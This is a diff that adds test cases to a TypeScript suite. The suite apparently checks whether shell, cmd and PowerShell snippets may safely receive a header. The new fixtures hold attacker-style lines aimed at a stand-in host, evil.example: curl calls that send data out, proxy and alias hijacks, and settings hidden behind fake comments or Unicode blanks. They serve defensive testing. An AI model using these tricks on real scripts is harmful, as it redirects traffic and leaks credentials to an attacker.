@@ -1786,6 +1786,83 @@ describe('who may get the header', () => {
         /unknown \d: its script has (?:ssh|docker exec)$/,
         /unknown \d: its script has (?:ssh|docker exec)$/,
       ]),
+      ...(
+        [
+          ['sh', 'MAIL=me@x.org curl -s https://evil.example/log > curl U'],
+          ['cmd', 'C:\\Windows\\System32\\curl.exe https://evil.example > curl U'],
+          ['cmd', 'C:\\tools\\x.cmd & set CURL_HOME=. 2>nul & curl U'],
+          ...[
+            'HOME=./tools@v2# curl U',
+            'CURL_HOME=docs@v2 TAG=# curl U',
+            'https_proxy=http://u@evil.example:8080/# curl U',
+            'HOME=./x❯ curl U',
+            'export CURL_HOME=.\n$ curl U',
+          ].map((line): [string, string] => ['sh', line]),
+          ['powershell', "ps;$env:CURL_HOME='.';1>$null;curl.exe U"],
+          ['powershell', "$env:HTTPS_PROXY='http://evil.example'\nPS C:\\> irm U"],
+        ] as const
+      ).map(([language, lines]): Row => [
+        'no prompt of a terminal, and no output',
+        markdownFormat('restClient'),
+        `\`\`\`${language}\n${lines.replace(/\bU\b/, url)}\n\`\`\`\n`,
+        /^(?:unknown|stray|elsewhere)/,
+        /^(?:unknown|stray|elsewhere)/,
+      ]),
+      ...(
+        [
+          ['sh', 'EMAIL=me@example.com # your account\ncurl U'],
+          ['sh', 'EMAIL=me@x.org ./login.sh > token.txt\ncurl U'],
+          ['bat', 'C:\\tools\\login.exe > nul\ncurl U ^\n  -s'],
+          ['powershell', 'ps > x.txt\nirm U'],
+          ['sh', 'user@host:~/app$ curl U'],
+          ['sh', '[me@box app]$ curl U'],
+          ['console', '(venv) me@box ~ % curl U'],
+          ['powershell', 'PS C:\\Users\\me> irm U'],
+          ['cmd', 'C:\\Users\\me>curl U'],
+        ] as const
+      ).map(([language, lines]): Row => [
+        'what looks like a prompt, and prompts',
+        markdownFormat('restClient'),
+        `\`\`\`${language}\n${lines.replace(/\bU\b/, url)}\n\`\`\`\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ]),
+      ...[
+        'curl.exe -s https://evil.example/log -d a,\ncurl.exe -s U',
+        '& ./upload.exe a,\ncurl.exe -s U',
+      ].map((script): Row => [
+        'a list that goes on below',
+        powershellFormat,
+        script.replace(/\bU\b/, url),
+        /^(?:unknown|stray)|^$/,
+        /^(?:unknown|stray)|^$/,
+      ]),
+      ...(
+        [
+          [posixFormat, "usage='\nUsage:\n# x'; export CURL_HOME=.\ncurl U"],
+          [posixFormat, "usage='\nUsage:\n# x'; alias curl='curl -x http://evil.example'\ncurl U"],
+          [powershellFormat, "<#\n.NOTES\n# x #> $env:CURL_HOME='.'\ncurl.exe U"],
+          [powershellFormat, '$help = "\n# Usage"; $env:HTTPS_PROXY = "http://evil.example"\nirm U'],
+          [powershellFormat, "$t = 'a\n# b'; Set-Alias irm evil\nirm U"],
+          [posixFormat, '\u00a0# Settings; export CURL_HOME=.\ncurl U'],
+          [posixFormat, '\f# Settings; export CURL_HOME=.\ncurl U'],
+          [cmdFormat, 'rem-x.cmd & set CURL_HOME=.\ncurl U'],
+          [cmdFormat, 'rem& set CURL_HOME=.\ncurl U'],
+        ] as const
+      ).map(([format, script]): Row => [
+        'a setting in a line that only looks like a comment',
+        format,
+        `${script.replace(/\bU\b/, url)}\n`,
+        /unknown \d: its script has/,
+        /unknown \d: its script has/,
+      ]),
+      ...['\u00a0', '\f', '\v', '\u0085', '\u3000'].map((blank): Row => [
+        `a comment after U+${blank.charCodeAt(0).toString(16)}`,
+        powershellFormat,
+        `Write-Host 1${blank}# don't\nirm https://evil.example -Method Post -Body '\nirm ${url}\n'\n`,
+        /^stray 1: https:\/\/evil\.example$|^stray/,
+        /^stray/,
+      ]),
       ...["Write-Note 'Don’t worry'", `$a = 'x‚y'`, '$a = "a”b"'].map((above): Row => [
         'a typographic quote that ends a string above, so that another one is open',
         powershellFormat,
